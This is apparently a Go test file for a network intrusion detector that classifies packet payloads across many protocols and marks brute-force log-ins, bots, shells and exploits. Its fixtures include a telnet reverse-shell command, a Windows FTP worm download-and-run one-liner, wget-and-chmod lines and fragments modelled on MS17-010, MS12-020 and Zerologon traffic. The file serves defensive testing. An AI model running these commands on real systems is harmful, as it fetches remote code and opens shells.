package payload

import (
	"bytes"
	"encoding/binary"
	"strings"
	"testing"
	"unsafe"

	"firetower/internal/packet"
)

// step is one packet's payload; direction '>' is from the initiator.
type step struct {
	dir  byte
	data string
}

// talk shows a conversation to fresh Signals, one packet a step, 10 ms apart.
func talk(proto uint8, steps ...step) *Signals {
	s := new(Signals)
	at := [2]uint32{1000, 5000}
	for i, st := range steps {
		d := 0
		if st.dir == '<' {
			d = 1
		}
		p := packet.Packet{Time: 1e12 + int64(i)*10_000, Src: packet.Addr{15: byte(1 + d)}, Dst: packet.Addr{15: byte(2 - d)}, Proto: proto, Seq: at[d], Payload: []byte(st.data), PayloadLen: uint32(len(st.data))}
		s.Observe(d == 0, &p)
		at[d] += p.PayloadLen
	}
	return s
}

func utf16(s string) string {
	var b strings.Builder
	for _, r := range s {
		b.WriteByte(byte(r))
		b.WriteByte(byte(r >> 8))
	}
	return b.String()
}

// smb2 builds an SMB2 message behind its NetBIOS length.
func smb2(command uint16, status uint32, reply bool, body string) string {
	h := make([]byte, 68+len(body))
	binary.BigEndian.PutUint32(h, uint32(64+len(body)))
	copy(h[4:], "\xfeSMB")
	binary.LittleEndian.PutUint16(h[8:], 64)
	binary.LittleEndian.PutUint32(h[12:], status)
	binary.LittleEndian.PutUint16(h[16:], command)
	if reply {
		h[20] = 1
	}
	copy(h[68:], body)
	return string(h)
}

// smb1 builds an SMB1 message behind its NetBIOS length.
func smb1(command byte, status uint32, reply bool, body string) string {
	h := make([]byte, 36+len(body))
	binary.BigEndian.PutUint32(h, uint32(32+len(body)))
	copy(h[4:], "\xffSMB")
	h[8] = command
	binary.LittleEndian.PutUint32(h[9:], status)
	if reply {
		h[13] = 0x80
	}
	copy(h[36:], body)
	return string(h)
}

// rpcCall builds a DCE/RPC bind (kind 11) or request (kind 0).
func rpcCall(kind byte, operation uint16, rest string) string {
	h := make([]byte, 24, 24+len(rest))
	h[0], h[2], h[3], h[4] = 5, kind, 3, 0x10
	binary.LittleEndian.PutUint16(h[8:], uint16(24+len(rest)))
	binary.LittleEndian.PutUint16(h[22:], operation)
	return string(h) + rest
}

func snmpGet(community string) string {
	body := "\x02\x01\x01\x04" + string(byte(len(community))) + community + "\xa0\x0b\x02\x01\x01\x02\x01\x00\x02\x01\x00\x30\x00"
	return "\x30" + string(byte(len(body))) + body
}

const svcctlUUID = "\x01\x00\x00\x00\x00\x00\x01\x00\x81\xbb\x7a\x36\x44\x98\xf1\x35\xad\x32\x98\xf0\x38\x00\x10\x03"

func TestProtocols(t *testing.T) {
	tests := []struct {
		name                        string
		proto                       Proto
		udp                         bool
		logIns, failures, successes uint16
		users                       int
		marks                       Marks
		steps                       []step
	}{
		{name: "ftp", proto: FTP, logIns: 2, failures: 1, successes: 1, users: 2, steps: []step{
			{'<', "220 FTP server ready\r\n"}, {'>', "USER anna\r\n"}, {'<', "331 password\r\n"}, {'>', "PASS a\r\n"}, {'<', "530 no\r\n"},
			{'>', "USER bert\r\n"}, {'<', "331 password\r\n"}, {'>', "PASS b\r\n"}, {'<', "230 welcome\r\n"}}},
		{name: "ftp, a command before the log-in is no refused log-in", proto: FTP, steps: []step{
			{'<', "220 FTP\r\n"}, {'>', "SYST\r\n"}, {'<', "530 Please log in\r\n"}}},
		{name: "smtp", proto: SMTP, logIns: 1, failures: 1, users: 1, marks: MailSent, steps: []step{
			{'<', "220 mx ESMTP\r\n"}, {'>', "EHLO x\r\n"}, {'<', "250 mx\r\n"}, {'>', "AUTH PLAIN AGEAYg==\r\n"}, {'<', "535 no\r\n"},
			{'>', "MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n"}, {'<', "354 go on\r\n"}}},
		{name: "pop3", proto: POP3, logIns: 2, failures: 1, successes: 1, users: 1, steps: []step{
			{'<', "+OK ready\r\n"}, {'>', "USER a\r\n"}, {'<', "+OK\r\n"}, {'>', "PASS x\r\n"}, {'<', "-ERR no\r\n"}, {'>', "PASS y\r\n"}, {'<', "+OK in\r\n"}}},
		{name: "imap", proto: IMAP, logIns: 2, failures: 1, successes: 1, users: 1, steps: []step{
			{'<', "* OK ready\r\n"}, {'>', "a1 LOGIN u x\r\n"}, {'<', "a1 NO failed\r\n"}, {'>', "a2 LOGIN u y\r\n"}, {'<', "a2 OK done\r\n"}}},
		{name: "telnet", proto: Telnet, logIns: 1, failures: 1, steps: []step{
			{'<', "\xff\xfd\x18\xff\xfd\x20"}, {'>', "\xff\xfb\x18"}, {'<', "login: "}, {'>', "root\r\n"}, {'<', "Password: "}, {'>', "x\r\n"}, {'<', "Login incorrect\r\nlogin: "}}},
		{name: "vnc", proto: VNC, logIns: 1, failures: 1, steps: []step{
			{'<', "RFB 003.008\n"}, {'>', "RFB 003.008\n"}, {'<', "\x01\x02"}, {'>', "\x02"}, {'<', "0123456789abcdef"}, {'>', "fedcba9876543210"}, {'<', "\x00\x00\x00\x01"}}},
		{name: "mysql", proto: MySQL, logIns: 1, failures: 1, users: 1, steps: []step{
			{'<', "\x4a\x00\x00\x00\x0a8.0.1\x00rest of the greeting"}, {'>', "\x54\x00\x00\x01" + strings.Repeat("\x00", 32) + "root\x00pass"}, {'<', "\x48\x00\x00\x02\xff\x15\x04#28000Access denied"}}},
		{name: "postgresql", proto: PostgreSQL, logIns: 1, failures: 1, users: 1, steps: []step{
			{'>', "\x00\x00\x00\x14\x00\x03\x00\x00user\x00joe\x00\x00"}, {'<', "R\x00\x00\x00\x0c\x00\x00\x00\x05abcd"}, {'>', "p\x00\x00\x00\x08md5\x00"}, {'<', "E\x00\x00\x00\x30SFATAL\x00C28P01\x00"}}},
		{name: "mssql", proto: MSSQL, logIns: 1, failures: 1, steps: []step{
			{'>', "\x12\x01\x00\x34\x00\x00\x00\x00rest"}, {'<', "\x04\x01\x00\x25\x00\x00\x01\x00x"}, {'>', "\x10\x01\x00\x90\x00\x00\x01\x00login"}, {'<', "\x04\x01\x00\x40\x00\x33\x01\x00\xaa\x30\x00\x18\x48\x00\x00\x01\x0e"}}},
		{name: "kerberos, unknown user", proto: Kerberos, udp: true, logIns: 1, failures: 1, users: 1, steps: []step{
			{'>', "\x6a\x40\x30\x3e\xa1\x03\x02\x01\x05\xa2\x03\x02\x01\x0a\xa4\x32\x30\x30\xa1\x11\x30\x0f\xa0\x03\x02\x01\x01\xa1\x08\x30\x06\x1b\x04anna"},
			{'<', "\x7e\x40\x30\x3e\xa0\x03\x02\x01\x05\xa1\x03\x02\x01\x1e\xa6\x03\x02\x01\x06"}}},
		{name: "pop3, AUTH in steps", proto: POP3, logIns: 2, failures: 1, successes: 1, steps: []step{
			{'<', "+OK ready\r\n"}, {'>', "AUTH LOGIN\r\n"}, {'<', "+ VXNlcm5hbWU6\r\n"}, {'>', "YQ==\r\n"}, {'<', "+ UGFzc3dvcmQ6\r\n"}, {'>', "YQ==\r\n"},
			{'<', "-ERR no\r\n"}, {'>', "AUTH PLAIN AGEAYg==\r\n"}, {'<', "+OK in\r\n"}}},
		{name: "imap, AUTHENTICATE in steps", proto: IMAP, logIns: 1, failures: 1, steps: []step{
			{'<', "* OK ready\r\n"}, {'>', "2 AUTHENTICATE LOGIN\r\n"}, {'<', "+ VXNlcm5hbWU6\r\n"}, {'>', "YQ==\r\n"}, {'<', "+ UGFzc3dvcmQ6\r\n"}, {'>', "YQ==\r\n"},
			{'<', "2 NO [AUTHENTICATIONFAILED] no\r\n"}}},
		{name: "imap, the server's side alone", proto: IMAP, failures: 1, steps: []step{
			{'<', "* OK ready\r\n"}, {'<', "a NO [AUTHENTICATIONFAILED] no\r\n"}, {'<', "b NO no such mailbox\r\n"}}},
		{name: "a router asks again", proto: Telnet, logIns: 2, failures: 2, steps: []step{
			{'<', "\r\nUser Access Verification\r\n\r\nPassword: "}, {'>', "x\r\n"}, {'<', "\r\n"}, {'<', "Password: "}, {'>', "y\r\n"}, {'<', "% Bad passwords\r\n"}}},
		{name: "telnet, let in", proto: Telnet, logIns: 1, successes: 1, steps: []step{
			{'<', "\xff\xfd\x18\xff\xfd\x20"}, {'<', "login: "}, {'>', "root\r\n"}, {'<', "Password: "}, {'>', "x\r\n"}, {'<', "\r\n"}, {'<', "$ "},
			{'>', "cat log\r\n"}, {'<', "login incorrect\r\n$ "}}},
		{name: "rexec", proto: Telnet, logIns: 1, failures: 1, steps: []step{
			{'>', "0\x00anna\x00secret\x00id\x00"}, {'<', "\x01Login incorrect.\n"}}},
		{name: "redis", proto: Redis, logIns: 3, failures: 2, successes: 1, steps: []step{
			{'>', "*2\r\n$4\r\nAUTH\r\n$1\r\nx\r\n"}, {'<', "-WRONGPASS invalid username-password pair or user is disabled.\r\n"}, {'>', "AUTH y\r\n"},
			{'<', "-ERR invalid password\r\n"}, {'>', "AUTH z\r\n"}, {'<', "+OK\r\n"}, {'>', "*1\r\n$4\r\nPING\r\n"}, {'<', "+OK\r\n"}}},
		{name: "redis, several at once", proto: Redis, logIns: 2, failures: 2, steps: []step{
			{'>', "AUTH x\r\nAUTH y\r\n"}, {'<', "-WRONGPASS no\r\n-WRONGPASS no\r\n"}}},
		{name: "news", proto: NNTP, logIns: 1, failures: 1, users: 1, steps: []step{
			{'<', "200 news.example ready\r\n"}, {'>', "AUTHINFO USER a\r\n"}, {'<', "381 more\r\n"}, {'>', "AUTHINFO PASS b\r\n"}, {'<', "481 no\r\n"}}},
		{name: "xmpp", proto: XMPP, logIns: 1, failures: 1, steps: []step{
			{'>', "<?xml version='1.0'?><stream:stream to='a'>"}, {'<', "<stream:features/>"}, {'>', "<auth mechanism='PLAIN'>AGEAYg==</auth>"}, {'<', "<failure><not-authorized/></failure>"}}},
		{name: "subversion", proto: SVN, logIns: 1, failures: 1, steps: []step{
			{'<', "( success ( 2 2 ( ) ( edit-pipeline ) ) ) "}, {'>', "( 2 ( edit-pipeline ) 9:svn://a/b ) "}, {'<', "( success ( ( CRAM-MD5 ) 1:r ) ) "}, {'>', "( CRAM-MD5 ( ) ) "},
			{'<', "( step ( 5:<1@a> ) ) "}, {'>', "6:a 0123 "}, {'<', "( failure ( 18:Password incorrect ) ) "}}},
		{name: "asterisk manager", proto: AMI, logIns: 1, failures: 1, users: 1, steps: []step{
			{'<', "Asterisk Call Manager/5.0\r\n"}, {'>', "Action: Login\r\nUsername: a\r\nSecret: b\r\n\r\n"}, {'<', "Response: Error\r\nMessage: Authentication failed\r\n\r\n"}}},
		{name: "mqtt", proto: MQTT, logIns: 1, failures: 1, steps: []step{
			{'>', "\x10\x16\x00\x04MQTT\x04\xc2\x00\x3c\x00\x02id\x00\x01a\x00\x01b"}, {'<', "\x20\x02\x00\x05"}}},
		{name: "socks", proto: SOCKS, logIns: 1, failures: 1, steps: []step{
			{'>', "\x05\x01\x02"}, {'<', "\x05\x02"}, {'>', "\x01\x01a\x01b"}, {'<', "\x01\x01"}}},
		{name: "sip, challenged, wrong, right", proto: SIP, udp: true, logIns: 2, failures: 1, successes: 1, users: 1, steps: []step{
			{'>', "REGISTER sip:lab SIP/2.0\r\nTo: <sip:1@lab>\r\n\r\n"}, {'<', "SIP/2.0 401 Unauthorized\r\nCSeq: 1 REGISTER\r\n\r\n"},
			{'>', "REGISTER sip:lab SIP/2.0\r\nAuthorization: Digest username=\"1\", response=\"a\"\r\n\r\n"}, {'<', "SIP/2.0 403 Forbidden\r\nCSeq: 2 REGISTER\r\n\r\n"},
			{'>', "REGISTER sip:lab SIP/2.0\r\nAuthorization: Digest username=\"1\", response=\"b\"\r\n\r\n"}, {'<', "SIP/2.0 200 OK\r\nCSeq: 3 REGISTER\r\n\r\n"}}},
		{name: "sip, a challenge that is stale is no refusal", proto: SIP, udp: true, users: 1, steps: []step{
			{'>', "REGISTER sip:lab SIP/2.0\r\nAuthorization: Digest username=\"1\", response=\"a\"\r\n\r\n"},
			{'<', "SIP/2.0 401 Unauthorized\r\nWWW-Authenticate: Digest nonce=\"x\", stale=TRUE\r\n\r\n"}}},
		{name: "rtsp", proto: RTSP, logIns: 1, failures: 1, steps: []step{
			{'>', "DESCRIBE rtsp://cam RTSP/1.0\r\nAuthorization: Basic YTpi\r\n\r\n"}, {'<', "RTSP/1.0 401 Unauthorized\r\n\r\n"}}},
		{name: "snmp, three communities", proto: SNMP, udp: true, logIns: 3, steps: []step{
			{'>', snmpGet("public")}, {'>', snmpGet("private")}, {'>', snmpGet("public")}, {'>', snmpGet("cisco")}}},
		{name: "ldap, any refusal", proto: LDAP, logIns: 1, failures: 1, users: 1, steps: []step{
			{'>', "\x30\x0f\x02\x01\x01\x60\x0a\x02\x01\x03\x04\x01a\x80\x02pw"}, {'<', "\x30\x0c\x02\x01\x01\x61\x07\x0a\x01\x35\x04\x00\x04\x00"}}},
		{name: "vnc, shut out", proto: VNC, failures: 1, steps: []step{
			{'<', "RFB 003.003\n"}, {'>', "RFB 003.003\n"}, {'<', "\x00\x00\x00\x00\x00\x00\x00\x1aToo many security failures"}}},
		{name: "xmlrpc, many calls in one request", proto: HTTP, logIns: 3, marks: NoAgent | ServerScript, steps: []step{
			{'>', "POST /xmlrpc.php HTTP/1.1\r\nHost: a\r\n\r\n"}, {'>', "<string>wp.getUsersBlogs</string>a<string>wp.getUsersBlogs</string>b<string>wp.getUsersBlogs</string>c"}}},
		{name: "http proxy", proto: HTTP, logIns: 1, failures: 1, marks: NoAgent, steps: []step{
			{'>', "GET http://a/ HTTP/1.1\r\nHost: a\r\nProxy-Authorization: Basic YTpi\r\n\r\n"}, {'<', "HTTP/1.1 407 Proxy Authentication Required\r\n\r\n"}}},
		{name: "kerberos, pre-authentication asked for is no refusal", proto: Kerberos, udp: true, steps: []step{
			{'<', "\x7e\x40\x30\x3e\xa0\x03\x02\x01\x05\xa1\x03\x02\x01\x1e\xa6\x03\x02\x01\x19"}}},
		{name: "ldap", proto: LDAP, logIns: 1, failures: 1, users: 1, steps: []step{
			{'>', "\x30\x16\x02\x01\x01\x60\x11\x02\x01\x03\x04\x05cn=ab\x80\x05wrong"}, {'<', "\x30\x0c\x02\x01\x01\x61\x07\x0a\x01\x31\x04\x00\x04\x00"}}},
		{name: "rdp", proto: RDP, logIns: 1, users: 1, steps: []step{
			{'>', "\x03\x00\x00\x25\x20\xe0\x00\x00\x00\x00\x00Cookie: mstshash=joe\r\n\x01\x00\x08"}}},
		{name: "rdp, a domain of no channels (MS12-020)", proto: RDP, logIns: 1, marks: Crashes, steps: []step{
			{'>', "\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x00\x00\x00\x00"}, {'<', "\x03\x00\x00\x0b\x06\xd0\x00\x00\x12\x34\x00"},
			{'>', "\x03\x00\x01\xd6\x02\xf0\x80\x7f\x65\x82\x01\x94\x04\x01\x01\x04\x01\x01\x01\x01\xff\x30\x19\x02\x04\x00\x00\x00\x00\x02\x04\x00\x00\x00\x02"}}},
		{name: "rdp, a domain as clients want it", proto: RDP, logIns: 1, steps: []step{
			{'>', "\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x00\x00\x00\x00"}, {'<', "\x03\x00\x00\x0b\x06\xd0\x00\x00\x12\x34\x00"},
			{'>', "\x03\x00\x01\xbe\x02\xf0\x80\x7f\x65\x82\x01\xb2\x04\x01\x01\x04\x01\x01\x01\x01\xff\x30\x20\x02\x02\x00\x22\x02\x02\x00\x02\x02\x02\x00\x00"}}},
		{name: "smb2, refused then let in", proto: SMB, logIns: 2, failures: 1, successes: 1, marks: AdminShare, steps: []step{
			{'>', smb2(1, 0, false, "proof")}, {'<', smb2(1, 0xC000006D, true, "")}, {'>', smb2(1, 0, false, "proof")}, {'<', smb2(1, 0, true, "")},
			{'>', smb2(3, 0, false, utf16(`\\10.0.0.1\ADMIN$`))}}},
		{name: "smb2, a share of data", proto: SMB, marks: DataShare, steps: []step{{'>', smb2(3, 0, false, utf16(`\\10.0.0.1\music`))}}},
		{name: "smb1, service created through a pipe", proto: SMB, marks: ServicePipe | CreateService | StartService, steps: []step{
			{'>', smb1(0x75, 0, false, `\\10.0.0.1\IPC$`)}, {'>', smb1(0xa2, 0, false, `\svcctl`)},
			{'>', smb1(0x2f, 0, false, "................"+rpcCall(0, 12, "name"))}, {'>', smb1(0x2f, 0, false, rpcCall(0, 19, ""))}}},
		{name: "smb1, groom of MS17-010", proto: SMB, marks: RemoteExploit, steps: []step{
			{'>', smb1(0xa0, 0, false, "\x14\x01\x00\x00\x1e\x00\x00\x00\xd0\x03\x01\x00"+strings.Repeat("\x00", 40))}}},
		{name: "smb1, a plain NT transaction", proto: SMB, steps: []step{
			{'>', smb1(0xa0, 0, false, "\x14\x01\x00\x00\x1e\x00\x00\x00\x10\x00\x00\x00"+strings.Repeat("\x00", 40))}}},
		{name: "smb2, program written to a share", proto: SMB, marks: ExeWritten | ExeNamed, steps: []step{
			{'>', smb2(5, 0, false, utf16(`tools\setup.exe`))}, {'>', smb2(9, 0, false, strings.Repeat("\x00", 48)+"MZ\x90\x00\x03")}}},
		{name: "dce/rpc, service created", proto: DCERPC, marks: ServicePipe | CreateService, steps: []step{
			{'>', rpcCall(11, 0, svcctlUUID)}, {'>', rpcCall(0, 12, "x")}}},
		{name: "dce/rpc, a service asked about", proto: DCERPC, marks: ServicePipe, steps: []step{{'>', rpcCall(11, 0, svcctlUUID)}, {'>', rpcCall(0, 6, "x")}}},
		{name: "irc bot", proto: IRC, marks: IRCBot | IRCChannel, steps: []step{{'>', "NICK [DEU|XP|0512345]\r\n"}, {'>', "JOIN #x key\r\n"}}},
		{name: "irc bot behind a password", proto: IRC, marks: IRCBot, steps: []step{{'>', "PASS x\r\nNICK [00|USA|XP]-87235\r\n"}}},
		{name: "irc bot told by name", proto: IRC, marks: IRCBot, steps: []step{{'>', "NICK anna\r\n"}, {'<', ":* PRIVMSG anna :!get http://198.51.100.7/d\r\n"}}},
		{name: "irc server made to call back", proto: IRC, marks: RemoteExploit, steps: []step{{'<', ":irc.lan NOTICE AUTH :*** Looking up\r\n"}, {'>', "AB;sh -c '(sleep 9|telnet 198.51.100.7 4444|sh)' &\n"}}},
		{name: "compiler made to run a shell", marks: RemoteExploit, steps: []step{{'>', "DIST00000001ARGC00000008ARGV00000002shARGV00000002-c"}}},
		{name: "irc bot that reports", proto: IRC, marks: IRCBot, steps: []step{{'>', "NICK anna\r\n"}, {'>', "PRIVMSG #x :ocxLv2PDBjI9jR70KYb6kldBYh0\r\n"}, {'>', "PRIVMSG #x :ocxLv2PDBjI9jR70KYb6kldBYh1\r\n"}, {'>', "PRIVMSG #x :ocxLv2PDBjI9jR70KYb6kldBYh2\r\n"}, {'>', "PRIVMSG #x :ocxLv2PDBjI9jR70KYb6kldBYh3\r\n"}, {'>', "PRIVMSG #x :ocxLv2PDBjI9jR70KYb6kldBYh4\r\n"}, {'>', "PRIVMSG #x :ocxLv2PDBjI9jR70KYb6kldBYh5\r\n"}}},
		{name: "irc person who pastes keys", proto: IRC, steps: []step{{'>', "NICK anna\r\n"}, {'>', "PRIVMSG #x :https://example.org/aB3dEfGh1jKlMnOpQr\r\n"}, {'>', "PRIVMSG #x :+OK ocxLv2PDBjI9jR70KYb6kldBYh\r\n"}, {'>', "PRIVMSG #x :ocxLv2PDBjI9jR70KYb6kldBYh1\r\n"}, {'>', "PRIVMSG #x :what is this?\r\n"}, {'>', "PRIVMSG #x :ocxLv2PDBjI9jR70KYb6kldBYh2\r\n"}, {'>', "PRIVMSG #x :ocxLv2PDBjI9jR70KYb6kldBYh3\r\n"}, {'>', "PRIVMSG #x :a hash\r\n"}, {'>', "PRIVMSG #x :ocxLv2PDBjI9jR70KYb6kldBYh4\r\n"}, {'>', "PRIVMSG #x :ocxLv2PDBjI9jR70KYb6kldBYh5\r\n"}, {'>', "PRIVMSG #x :ocxLv2PDBjI9jR70KYb6kldBYh6\r\n"}}},
		{name: "irc person", proto: IRC, marks: IRCChannel, steps: []step{{'>', "NICK anna_\r\n"}, {'>', "JOIN #golang\r\n"}}},
		{name: "a worm fetched at Windows' prompt", marks: RemoteExploit, steps: []step{{'>', "echo off&echo open 192.0.2.61 5554>>cmd.ftp&echo get 1_up.exe>>cmd.ftp&ftp -s:cmd.ftp&1_up.exe\n"}}},
		{name: "shell called back", marks: Shell | ShellFwd, steps: []step{{'>', "Microsoft Windows [Version 10.0.19041]\r\n"}, {'<', "whoami\r\n"}}},
		{name: "shell bound to a port", marks: Shell, steps: []step{{'>', "id\n"}, {'<', "uid=0(root) gid=0(root)\n"}}},
		{name: "shell with a prompt of its own", marks: Shell | ShellFwd, steps: []step{{'>', "root@web01:/var/www# "}, {'<', "ls\n"}}},
		{name: "shell without prompts", marks: Shell | ShellFwd, steps: []step{{'<', "wget http://198.51.100.7/x\n"}, {'<', "chmod +x x\n"}}},
		{name: "dungeon", steps: []step{{'<', "Welcome\r\nname? "}, {'>', "w\r\n"}, {'>', "exit\r\n"}, {'>', "w\r\n"}, {'>', "cat food\r\n"}, {'<', "ann@dungeon $ "}}},
		{name: "stage behind its length", marks: Staged, steps: []step{{'<', "\x00\x5e\x0b\x00MZARUH\x89\xe5" + strings.Repeat("\x00", 20)}}},
		{name: "file transfer of a program", steps: []step{{'<', "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + strings.Repeat("\x00", 20)}}},
		{name: "remote-access trojan", marks: RATWords, steps: []step{{'>', "Gh0st\xad\x00\x00\x00\xe0\x00\x00\x00\x78\x9c\x4b"}}},
		{name: "a node of a botnet in BitTorrent's table", udp: true, marks: RATWords, steps: []step{{'>', "d1:ad2:id20:888888\x12\x34\x56\x78\x9a\xbc\xde\xf0\x01\x02\x03\x04\x05\x06e1:q4:ping1:t2:ab1:y1:qe"}}},
		{name: "BitTorrent's table", udp: true, steps: []step{{'>', "d1:ad2:id20:\x88\x88\x88888\x12\x34\x56\x78\x9a\xbc\xde\xf0\x01\x02\x03\x04\x05\x06e1:q4:ping1:t2:ab1:y1:qe"}}},
		{name: "home-made bot", udp: true, marks: BotWords, steps: []step{{'>', "zombie 7 reporting"}}},
		{name: "STARTTLS", proto: TLS, steps: []step{{'<', "220 mx ESMTP\r\n"}, {'>', "EHLO x\r\n"}, {'>', "STARTTLS\r\n"}, {'<', "220 go\r\n"}, {'>', "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x03"}}},
		{name: "TLS within PostgreSQL", proto: TLS, steps: []step{{'>', "\x00\x00\x00\x08\x04\xd2\x16\x2f"}, {'<', "S"}, {'>', "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x03"}}},
		{name: "form behind its head", proto: HTTP, logIns: 1, steps: []step{{'>', "POST /a HTTP/1.1\r\nHost: a.example\r\nUser-Agent: python-requests/2.2\r\nContent-Length: 13\r\n\r\n"}, {'>', "u=a&password=b"}}, marks: ScriptAgent},
		{name: "JSON log-in", proto: HTTP, logIns: 1, steps: []step{{'>', "POST /a HTTP/1.1\r\nHost: a.example\r\nUser-Agent: python-requests/2.2\r\n\r\n{\"user\": \"a\", \"password\": \"b\"}"}}, marks: ScriptAgent},
		{name: "Siemens S7 is not RDP", steps: []step{{'>', "\x03\x00\x00\x16\x11\xe0\x00\x00\x00\x01\x00\xc1\x02\x01\x00\xc2\x02\x01\x02\xc0\x01\x09"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			proto := packet.TCP
			if tt.udp {
				proto = packet.UDP
			}
			s := talk(proto, tt.steps...)
			if s.Proto != tt.proto {
				t.Errorf("protocol %v, want %v", s.Proto, tt.proto)
			}
			if tt.logIns != 0 && s.LogIns != tt.logIns || s.Failures != tt.failures || s.Successes != tt.successes {
				t.Errorf("log-ins %d refused %d accepted %d, want %d %d %d", s.LogIns, s.Failures, s.Successes, tt.logIns, tt.failures, tt.successes)
			}
			if n := s.Users.Count(); n != tt.users && tt.users > 0 {
				t.Errorf("%d users, want %d", n, tt.users)
			}
			if s.Marks&^Sealed != tt.marks {
				t.Errorf("marks %b, want %b", s.Marks, tt.marks)
			}
		})
	}
}

// TestZerologon repeats a Netlogon authentication with a credential of zeros.
func TestZerologon(t *testing.T) {
	bind := rpcCall(11, 0, "\x01\x00\x00\x00\x00\x00\x01\x00\x78\x56\x34\x12\x34\x12\xcd\xab\xef\x00\x01\x23\x45\x67\xcf\xfb")
	zero := rpcCall(0, 26, "name........................"+strings.Repeat("\x00", 8)+"\xff\xff\x2f\x21")
	honest := rpcCall(0, 26, "name........................"+"\x9c\x01\x55\x20\x7f\x00\x00\x12"+"\xff\xff\x2f\x21")
	if s := talk(packet.TCP, step{'>', bind}, step{'>', zero}, step{'>', zero}); s.Calls.Zero != 2 || !s.Marks.Has(ZeroCredential) {
		t.Errorf("%d zero credentials, want 2", s.Calls.Zero)
	}
	if s := talk(packet.TCP, step{'>', bind}, step{'>', honest}); s.Calls.Zero != 0 {
		t.Error("an honest credential counted as zeros")
	}
}

// TestOrder makes sure that retransmissions do not count and gaps do not confuse.
func TestOrder(t *testing.T) {
	s := new(Signals)
	get := []byte("GET / HTTP/1.1\r\n\r\n")
	for range 3 {
		s.Observe(true, &packet.Packet{Src: packet.Addr{1}, Proto: packet.TCP, Seq: 100, Payload: get, PayloadLen: uint32(len(get))})
	}
	if s.Requests != 1 {
		t.Errorf("%d requests of one sent three times", s.Requests)
	}
	s.Observe(true, &packet.Packet{Src: packet.Addr{1}, Proto: packet.TCP, Seq: 9000, Payload: get, PayloadLen: uint32(len(get))})
	if s.Requests != 2 {
		t.Errorf("%d requests after a gap, want 2", s.Requests)
	}
}

// TestSelf has a host talk with itself, where the meter takes all for one direction.
func TestSelf(t *testing.T) {
	s := new(Signals)
	for i, text := range []string{"GET / HTTP/1.1\r\n\r\n", "HTTP/1.1 404 Not Found\r\n\r\n"} {
		p := packet.Packet{Proto: packet.TCP, SrcPort: 40000, DstPort: 80, Payload: []byte(text), PayloadLen: uint32(len(text))}
		if i == 1 {
			p.SrcPort, p.DstPort = 80, 40000
		}
		s.Observe(true, &p)
	}
	if s.Requests != 1 || s.Responses != 1 || s.HTTP.NotFound != 1 || s.Reversed {
		t.Errorf("%d requests, %d replies, reversed %v", s.Requests, s.Responses, s.Reversed)
	}
}

// TestSize keeps the cost per flow where the documentation says it is.
func TestSize(t *testing.T) {
	if n := unsafe.Sizeof(Signals{}); n > 400 {
		t.Errorf("Signals takes %d bytes, want at most 400", n)
	}
}

// TestSketch keeps the estimate within a fifth up to a hundred.
func TestSketch(t *testing.T) {
	for _, n := range []int{1, 5, 20, 50, 100} {
		var s Sketch
		for i := range n {
			s.Add(hash([]byte{byte(i), byte(i >> 8), 'x'}))
		}
		if got := s.Count(); got < n*8/10-1 || got > n*12/10+1 {
			t.Errorf("%d distinct things counted as %d", n, got)
		}
	}
}

// BenchmarkBulk is the path that nearly all packets take.
func BenchmarkBulk(b *testing.B) {
	hello := "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x03"
	record := append([]byte("\x17\x03\x03\x40\x00"), bytes.Repeat([]byte{0xa5}, 1455)...)
	for _, bb := range []struct {
		name, first string
		data        []byte
	}{
		{"unknown", "\xa5\xa5", bytes.Repeat([]byte{0xa5}, 1460)},
		{"tls", hello, record},
		{"http", "GET / HTTP/1.1\r\n\r\n", bytes.Repeat([]byte{0xa5}, 1460)},
	} {
		b.Run(bb.name, func(b *testing.B) {
			s := talk(packet.TCP, step{'>', bb.first})
			p := packet.Packet{Src: packet.Addr{1}, Proto: packet.TCP, Payload: bb.data, PayloadLen: 1460, Time: 1e12}
			for b.Loop() {
				s.Observe(false, &p)
				p.Seq += 1460
				p.Time += 10
			}
		})
	}
}
